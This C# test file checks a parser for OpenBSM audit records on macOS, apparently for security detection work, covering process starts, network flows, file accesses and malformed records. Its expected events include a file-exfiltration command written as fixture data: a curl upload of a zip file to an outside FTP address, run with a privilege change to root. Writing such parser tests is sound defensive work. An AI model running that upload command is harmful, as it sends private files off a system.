using Det0131.Datasets.Readers.OpenBsm;
using Det0131.Datasets.Tests.Readers.HostLogs;
using Det0131.Datasets.Tests.Readers.Mutation;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.OpenBsm;

/// <summary>Records in the form that OpenBSM's bsm_io.c prints and public guides show.</summary>
public sealed class OpenBsmTests
{
    private const string Subject = ",subject,ann,ann,staff,ann,staff,412,100005,50511731,0.0.0.0,return,success,0,trailer,1,";

    [Fact]
    public void Parse_Seeds_GiveStartsFlowsAndFiles()
    {
        var sink = CollectingSink.Read(OpenBsmFormat.Printed, "mac07.praudit.log", File.ReadLines(Seeds.PathOf("openbsm.lines")));
        var events = sink.Events;

        Assert.Equal(["fork", "event that is not read", "not an audit record", "not an audit record", "not an audit record"], sink.Ignored);
        Assert.Empty(sink.Rejected);
        Assert.All(events, found => Assert.Equal((Platform.MacOS, "openbsm"), (found.Platform, found.Source)));

        Assert.Equal((EventKind.ProcessStart, "curl", "/usr/bin/curl", "mac07"), (events[0].Kind, events[0].Process, events[0].ProcessPath, events[0].Host));
        Assert.Equal(("curl -T \"plan a.zip\" ftp://198.51.100.7/", "412", "300"), (events[0].CommandLine, events[0].ProcessKey, events[0].ParentKey));
        Assert.Equal(("ann", UserClass.Person, "ann>root", Outcome.Success), (events[0].User, events[0].UserClass, events[0].PrivilegeChange, events[0].Outcome));
        Assert.Equal(Fixture.Micros("2026-03-01T10:00:00.195Z"), events[0].TimeMicros);

        Assert.Equal((EventKind.NetworkFlow, "198.51.100.7", 21, "tcp", Outcome.Unknown), (events[1].Kind, events[1].DestinationAddress, events[1].DestinationPort, events[1].Transport, events[1].Outcome));
        Assert.Equal((events[0].ProcessKey, HostSide.Source), (events[1].ProcessKey, events[1].HostSide));

        Assert.Equal((EventKind.FileAccess, "/private/tmp/Plan.ZIP", ".zip"), (events[2].Kind, events[2].FilePath, events[2].FileExtension));
        Assert.Equal(("ditto", "413", "412", "10.0.0.8", "root", UserClass.System), (events[3].Process, events[3].ProcessKey, events[3].ParentKey, events[3].Host, events[3].User, events[3].UserClass));
        Assert.Equal(("2001:db8::53", 53, "udp", 64L, "501", UserClass.Person),
            (events[4].DestinationAddress, events[4].DestinationPort, events[4].Transport, events[4].SourceBytes, events[4].User, events[4].UserClass));

        // The two that praudit -x printed: a token a line, and a record a line.
        Assert.Equal((EventKind.ProcessStart, "curl", "curl -T a&b.zip", "420", "ann"), (events[5].Kind, events[5].Process, events[5].CommandLine, events[5].ProcessKey, events[5].User));
        Assert.Equal((EventKind.NetworkFlow, "198.51.100.7", 21, "tcp", Outcome.Unknown), (events[6].Kind, events[6].DestinationAddress, events[6].DestinationPort, events[6].Transport, events[6].Outcome));
        Assert.Equal(10, events[5].Line);
        Assert.StartsWith("<record version", events[5].Raw, StringComparison.Ordinal);
        Assert.EndsWith("</record>", events[5].Raw, StringComparison.Ordinal);
    }

    [Fact]
    public void Parse_ArgumentsThatLookLikeTokens_DoNotTakeTheirPlace()
    {
        var start = Assert.Single(Read(
            "header,1,11,execve(2),0,Sun Mar  1 10:00:00 2026, + 1 msec,exec arg,curl,path,/bin/ls,attribute,1,subject,root,root,return,success,-T,x,path,/usr/bin/curl,path,/usr/bin/curl,attribute,100755,root,wheel,1,2,0" + Subject).Events);

        Assert.Equal(("curl", "/usr/bin/curl", "412", "ann"), (start.Process, start.ProcessPath, start.ProcessKey, start.User));
        Assert.Equal("curl path /bin/ls attribute 1 subject root root return success -T x", start.CommandLine);
    }

    [Theory]
    [InlineData("header,1,11,execve(2),0,Sun Mar  1 10:00:00 2026, + 1 msec,exec arg,x,path,/x,subject,a,a,b,a,b,5,6,7,0.0.0.0,return,failure : No such file or directory,-1,", "system call that failed")]
    [InlineData("header,1,11,connect(2),0,Sun Mar  1 10:00:00 2026, + 1 msec,socket,1,/var/run/mDNSResponder" + Subject, "socket without an internet address")]
    [InlineData("header,1,11,unlink(2),0,Sun Mar  1 10:00:00 2026, + 1 msec,path,/x" + Subject, "event that is not read")]
    [InlineData("praudit: record truncated", "not an audit record")]
    public void Parse_OfNoConcern_IsIgnored(string line, string what) => Assert.Equal([what], Read(line).Ignored);

    [Theory]
    [InlineData("header,1,11,execve(2),0,Sun Mar 41 10:00:00 2026, + 1 msec,exec arg,x" + Subject, "audit header or time not readable")]
    [InlineData("header,1,11,execve(2)", "audit header or time not readable")]
    [InlineData("header,1,11,connect(2),0,Sun Mar  1 10:00:00 2026, + 1 msec,socket-inet,2,21,198.51.100.7,return,success,0", "process id missing")]
    public void Parse_Damaged_IsRefused(string line, string reason) => Assert.Equal([reason], Read(line).Rejected);

    private static CollectingSink Read(string line) => CollectingSink.Read(OpenBsmFormat.Printed, "x.log", line);
}
